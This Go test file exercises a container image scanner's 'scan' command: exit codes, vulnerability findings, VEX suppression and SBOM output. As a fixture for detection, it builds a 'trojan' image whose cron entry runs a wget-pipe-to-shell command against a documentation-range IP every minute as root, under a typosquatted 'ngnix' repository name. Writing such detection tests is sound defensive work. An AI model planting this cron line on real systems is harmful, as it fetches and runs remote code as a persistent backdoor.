package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/airlock-dev/airlock/internal/scan"
	"github.com/airlock-dev/airlock/internal/server/servertest"
)

// runScan runs `airlock scan ARGS` in-process.
func runScan(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	return cli(t, append([]string{"scan"}, args...)...)
}

// archive writes img as a docker-archive and returns its path.
func archive(t *testing.T, img v1.Image) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "image.tar")
	tag, _ := name.NewTag("example.com/app:1")
	if err := tarball.WriteToFile(p, tag, img); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestScanCommand(t *testing.T) {
	clean := servertest.Image(t, v1.Platform{OS: "linux", Architecture: "amd64"},
		map[string][]byte{"bin/busybox": servertest.Busybox(t),
			"usr/local/lib/python3.11/site-packages/requests-2.2.0.dist-info/METADATA": []byte("Metadata-Version: 2.1\nName: requests\nVersion: 2.2.0\n")},
		[]string{"/bin/busybox", "sh"}, nil)
	cleanTar := archive(t, clean)
	trojan := servertest.Image(t, v1.Platform{OS: "linux", Architecture: "amd64"},
		map[string][]byte{"etc/cron.d/update": []byte("* * * * * root wget -q -O- http://203.0.113.5/x | sh\n")}, []string{"/bin/sh"}, nil)
	trojanTar := archive(t, trojan)

	// A trojaned image fails --fail-on high with exit 1; its JSON names the finding.
	code, out, errs := runScan(t, "docker-archive:"+trojanTar, "-o", "json", "--fail-on", "high", "--repository", "docker.io/library/ngnix")
	if code != exitDenied {
		t.Fatalf("exit %d, want 1\n%s", code, errs)
	}
	var rep scan.Report
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("json: %v\n%s", err, out)
	}
	ids := map[string]bool{}
	for _, f := range rep.Findings {
		ids[f.ID] = true
	}
	if !ids["AIRLOCK-DOWNLOAD-EXEC"] || !ids["AIRLOCK-CRON-NETWORK"] || !ids["AIRLOCK-NAME-TYPOSQUAT"] {
		t.Fatalf("findings %v", ids)
	}

	// The clean one passes --fail-on high; without a database the table says so.
	code, out, errs = runScan(t, "docker-archive:"+cleanTar, "--fail-on", "high")
	if code != 0 || !strings.Contains(out, "no advisory database") || !strings.Contains(out, "Packages: 1 (python 1)") {
		t.Fatalf("clean: exit %d\n%s%s", code, out, errs)
	}

	// With an advisory database, requests 2.2.0 has known vulnerabilities;
	// a VEX statement suppresses one.
	data := filepath.Join(t.TempDir(), "data")
	if code, _, errs := runDB(t, "import", filepath.Join(osvData, "pypi", "requests"), "--data", data); code != 0 {
		t.Fatalf("db import: %s", errs)
	}
	code, out, errs = runScan(t, "docker-archive:"+cleanTar, "-o", "json", "--data", data)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	rep = scan.Report{}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	var vuln *scan.Finding
	for i, f := range rep.Findings {
		if f.Type == scan.TypeVulnerability && f.ID == "PYSEC-2014-13" {
			vuln = &rep.Findings[i]
		}
	}
	if vuln == nil || vuln.Fixed != "2.3.0" || vuln.Package == nil || vuln.Package.Name != "requests" ||
		!strings.HasSuffix(vuln.Location.Path, "requests-2.2.0.dist-info/METADATA") || vuln.Location.Layer == "" || rep.Scanner.AdvisoryDB == "" {
		t.Fatalf("vulnerability finding: %+v (db %s)", vuln, rep.Scanner.AdvisoryDB)
	}
	vex := filepath.Join(t.TempDir(), "app.vex.json")
	doc := `{"@context": "https://openvex.dev/ns/v0.2.0", "@id": "https://example.com/vex/1", "author": "test", "timestamp": "` + time.Now().UTC().Format(time.RFC3339) + `", "version": 1,
	 "statements": [{"vulnerability": {"name": "PYSEC-2014-13"}, "products": [{"@id": "pkg:pypi/requests@2.2.0"}], "status": "not_affected", "justification": "vulnerable_code_not_in_execute_path"}]}`
	if err := os.WriteFile(vex, []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs = runScan(t, "docker-archive:"+cleanTar, "-o", "json", "--data", data, "--vex", vex)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	rep = scan.Report{}
	_ = json.Unmarshal([]byte(out), &rep)
	for _, f := range rep.Findings {
		if f.ID == "PYSEC-2014-13" && f.Suppressed == "" {
			t.Fatalf("VEX did not suppress %+v", f)
		}
	}

	// SBOM formats go to stdout.
	for _, f := range []string{"cyclonedx", "spdx", "sarif"} {
		code, out, errs = runScan(t, "docker-archive:"+cleanTar, "-o", f)
		if code != 0 || !json.Valid([]byte(out)) {
			t.Fatalf("-o %s: exit %d %s", f, code, errs)
		}
	}

	// Usage errors exit 2.
	for _, args := range [][]string{
		{"docker-archive:" + cleanTar, "-o", "yaml"},
		{"docker-archive:" + cleanTar, "--fail-on", "severe"},
		{"docker-archive:/nonexistent/image.tar"},
		{},
		{"docker-archive:" + cleanTar, "--vex", "/nonexistent.json"},
		{"docker-archive:" + cleanTar, "--data", filepath.Join(t.TempDir(), "empty")},
	} {
		if code, _, errs := runScan(t, args...); code != exitUsage {
			t.Errorf("%v: exit %d, want 2 (%s)", args, code, errs)
		}
	}
}
